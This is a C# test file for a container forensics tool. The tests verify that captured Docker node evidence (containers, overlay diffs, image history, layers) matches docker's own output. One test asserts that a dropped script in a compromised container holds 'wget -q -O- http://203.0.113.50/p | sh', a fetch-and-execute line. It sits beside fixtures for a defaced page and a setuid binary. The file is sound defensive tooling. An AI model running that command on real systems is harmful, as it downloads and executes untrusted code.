using System.Text.Json;
using EksIr.Disk.Containers;
using EksIr.Disk.Containers.Overlay;
using EksIr.Core.Evidence;

namespace EksIr.Core.Tests.Containers;

[Collection(DockerNodeCollection.Name)]
public sealed class DockerStoreTests(DockerNode node)
{
    private EvidenceRoot Root => new(node.Root);

    [DockerFact]
    public void Containers_match_docker_ps()
    {
        // docker ps -a --no-trunc --format '{{json .}}': ID, Names, Image, State, Labels...
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-ps.jsonl"))
            .Select(l => JsonDocument.Parse(l).RootElement)
            .Select(e => (Id: e.GetProperty("ID").GetString()!, Name: e.GetProperty("Names").GetString()!, Image: e.GetProperty("Image").GetString()!, State: e.GetProperty("State").GetString()!))
            .OrderBy(c => c.Id, StringComparer.Ordinal);

        var listing = NodeContainers.List(Root);

        Assert.Empty(listing.Problems);
        Assert.Equal(expected, listing.Containers.Select(c => (c.Id, c.Name, c.Image, c.State)).OrderBy(c => c.Id, StringComparer.Ordinal));
        Assert.Equal(["batch", "k8s_web_shop-7d9f_default_9b2e6c4a-1d3f-4e5a-8b7c-6d5e4f3a2b1c_0", "replaced"], listing.Containers.Select(c => c.Name).Order(StringComparer.Ordinal));
        var web = Assert.Single(listing.Containers, c => c.ContainerName == "web");
        Assert.Equal("docker", web.Runtime);
        Assert.Equal(new PodRef("shop-7d9f", "default", DockerNode.PodUid), web.Pod);
        Assert.Equal("web", web.ContainerName);
        Assert.StartsWith("sha256:", web.ImageId);
        Assert.Equal(false, web.Security.Privileged);
        Assert.True(web.Security.HostPid);
        Assert.Equal(["CAP_SYS_PTRACE"], web.Security.CapabilitiesAdded); // dockerd stores the normalised name
        var mount = Assert.Single(web.Security.Mounts);
        Assert.Equal(("/host/var/log", true), (mount.Destination, mount.ReadOnly));
        Assert.Contains("host PID", web.Security.Notes());
        Assert.Equal("/bin/sh", web.Security.Command[0]);
    }

    [DockerFact]
    public void Diff_matches_docker_diff_line_for_line()
    {
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-diff.txt")).Order(StringComparer.Ordinal).ToArray();
        var (_, fs) = ContainerFilesystems.Open(Root, "web");

        var actual = OverlayDiff.Changes(fs).Select(c => $"{c.Change} {c.Path}").Order(StringComparer.Ordinal).ToArray();

        Assert.Equal(expected, actual);
    }

    [DockerFact]
    public void A_directory_made_again_over_the_images_is_changed_with_each_hidden_entry_deleted_as_docker_diff_says()
    {
        // rm -rf /opt/app; mkdir -p /opt/app/lib; … in the container: an opaque /opt/app hiding app.conf and lib/libapp.so.
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-diff-replaced.txt")).Order(StringComparer.Ordinal).ToArray();
        var (_, fs) = ContainerFilesystems.Open(Root, "replaced");

        var actual = OverlayDiff.Changes(fs).Select(c => $"{c.Change} {c.Path}").Order(StringComparer.Ordinal).ToArray();

        Assert.Equal(expected, actual);
        Assert.Contains("C /opt/app", expected);
        Assert.Empty(fs.Problems);
    }

    [DockerFact]
    public void Layer_bytes_count_a_hard_linked_file_once_as_dockers_own_layer_sizes_do()
    {
        // The base layer holds busybox and ten hard links to it; the replaced container's layer a file linked three times.
        using var inspect = JsonDocument.Parse(File.ReadAllText(Path.Combine(node.Root, ".docker-inspect-replaced.json")));
        var sizeRw = inspect.RootElement[0].GetProperty("SizeRw").GetInt64();

        var web = ContainerLayers.Of(Root, "web");
        var replaced = ContainerLayers.Of(Root, "replaced");

        var imageLayers = web.Layers.Where(l => l.EngineName?.StartsWith("layer sha256:", StringComparison.Ordinal) == true).ToArray();
        Assert.Equal(3, imageLayers.Length);
        foreach (var layer in imageLayers)
        {
            var layerdb = Path.Combine(node.Root, "var/lib/docker/image/overlay2/layerdb/sha256", layer.EngineName!["layer sha256:".Length..], "size");
            Assert.Equal(long.Parse(File.ReadAllText(layerdb).Trim(), System.Globalization.CultureInfo.InvariantCulture), layer.Bytes);
        }

        Assert.Equal(sizeRw, replaced.Layers[0].Bytes);
        Assert.Empty(web.Problems);
    }

    [DockerFact]
    public void The_merged_view_shows_the_defaced_page_the_dropped_script_and_the_deleted_passwd()
    {
        var (_, fs) = ContainerFilesystems.Open(Root, "shop-7d9f/web");

        Assert.Equal("<h1>owned</h1>\n", new StreamReader(fs.OpenRead("/var/www/index.html")).ReadToEnd());
        Assert.Contains("wget -q -O- http://203.0.113.50/p | sh", new StreamReader(fs.OpenRead("/tmp/.cache/run.sh")).ReadToEnd());
        Assert.Null(fs.Lookup("/etc/passwd"));
        var updater = fs.Lookup("/usr/local/bin/updater")!;
        Assert.Equal("-rwsr-xr-x", updater.Status.ModeString());
        Assert.Equal(5, fs.Layers.Count); // rw, init, two RUN layers, base
        Assert.EndsWith("-init/diff", fs.Layers[1].EvidencePath);
    }

    [DockerFact]
    public void Reading_the_docker_node_leaves_it_byte_identical()
    {
        var before = EvidenceTree.Hash(node.Root);

        NodeContainers.List(Root);
        var (_, fs) = ContainerFilesystems.Open(Root, "web");
        OverlayDiff.Changes(fs).ToList();
        fs.Walk().ToList();

        Assert.Equal(before, EvidenceTree.Hash(node.Root));
    }

    [DockerFact]
    public void Images_match_docker_images_with_built_here_and_unused_flags()
    {
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-images.jsonl"))
            .Select(l => JsonDocument.Parse(l).RootElement)
            .GroupBy(e => e.GetProperty("ID").GetString()!)
            .ToDictionary(g => g.Key, g => g.Where(e => e.GetProperty("Tag").GetString() != "<none>")
                .Select(e => e.GetProperty("Repository").GetString() + ":" + e.GetProperty("Tag").GetString()).Order(StringComparer.Ordinal).ToArray());

        var listing = NodeImages.List(Root);

        Assert.Empty(listing.Problems);
        Assert.Equal(expected.Keys.Order(StringComparer.Ordinal), listing.Images.Select(i => i.Id).Order(StringComparer.Ordinal));
        foreach (var image in listing.Images)
        {
            Assert.Equal(expected[image.Id], image.Names.Order(StringComparer.Ordinal));
        }

        var web = Assert.Single(listing.Images, i => i.Names.Contains("registry.example/shop-web:2.1"));
        Assert.True(web.BuiltOnNode);
        Assert.True(web.UsedByContainer);
        Assert.NotNull(web.Parent);
        var tools = Assert.Single(listing.Images, i => i.Names.Contains("registry.example/tools:0.3"));
        Assert.False(tools.UsedByContainer); // the one-off container that ran it was removed
        Assert.All(listing.Images, i => Assert.True(i.Size > 1_000_000));
        Assert.DoesNotContain(listing.Images, i => i.Dangling); // untagged ones are build steps of shop-web
    }

    [DockerFact]
    public void History_matches_docker_history_and_flags_the_setuid_base64_step()
    {
        var expected = File.ReadAllLines(Path.Combine(node.Root, ".docker-history.jsonl"))
            .Select(l => JsonDocument.Parse(l).RootElement.GetProperty("CreatedBy").GetString()!)
            .ToArray();

        var history = NodeImages.History(Root, "registry.example/shop-web:2.1");

        Assert.Equal(expected, history.Steps.Select(s => s.CreatedBy));
        var risky = Assert.Single(history.Steps, s => s.Flags.Count > 0);
        Assert.Equal(["setuid/setgid", "base64 blob"], risky.Flags);
        Assert.True(history.Steps[0].EmptyLayer); // CMD
    }

    [DockerFact]
    public async Task Status_names_the_engine_version_from_the_package_database_and_counts_like_docker()
    {
        var version = (await ProcessRun.RunAsync("dpkg-query", ["-W", "-f", "${Version}", "docker.io"], node.Root, TimeSpan.FromSeconds(30))).StdOut;
        var images = File.ReadAllLines(Path.Combine(node.Root, ".docker-images.jsonl")).Select(l => JsonDocument.Parse(l).RootElement).ToArray();

        var docker = Assert.Single(NodeStatus.Of(Root).Engines);

        Assert.Equal("docker", docker.Runtime);
        Assert.Equal($"{version} (docker.io)", docker.Version);
        Assert.Equal("overlay2", docker.StorageDriver);
        Assert.Equal((3, 0), (docker.Containers, docker.Running)); // web stopped, batch and replaced exited before the capture
        Assert.Equal(images.Select(i => i.GetProperty("ID").GetString()).Distinct().Count(), docker.Images);
        Assert.Equal(images.Count(i => i.GetProperty("Tag").GetString() == "<none>"), docker.UnnamedImages);
    }

    [DockerFact]
    public void The_layer_stack_is_dockers_own_upper_and_lower_dirs_with_chain_ids_from_layerdb()
    {
        using var inspect = JsonDocument.Parse(File.ReadAllText(Path.Combine(node.Root, ".docker-inspect.json")));
        var driver = inspect.RootElement[0].GetProperty("GraphDriver").GetProperty("Data");
        string Relative(string host) => Path.GetRelativePath(node.Root, host);
        var expected = new[] { Relative(driver.GetProperty("UpperDir").GetString()!) }
            .Concat(driver.GetProperty("LowerDir").GetString()!.Split(':').Select(Relative));

        var layers = ContainerLayers.Of(Root, "web");

        Assert.Equal(expected, layers.Layers.Select(l => l.EvidencePath));
        Assert.Equal("container (writable)", layers.Layers[0].Role);
        Assert.StartsWith("Docker init layer", layers.Layers[1].Role);
        Assert.All(layers.Layers.Skip(2), l => Assert.Matches("^layer sha256:[0-9a-f]{64}$", l.EngineName));
        Assert.Equal("image layer 1 of 3", layers.Layers[^1].Role);
        Assert.True(layers.Layers[^1].Bytes > 1_000_000); // busybox
    }
}
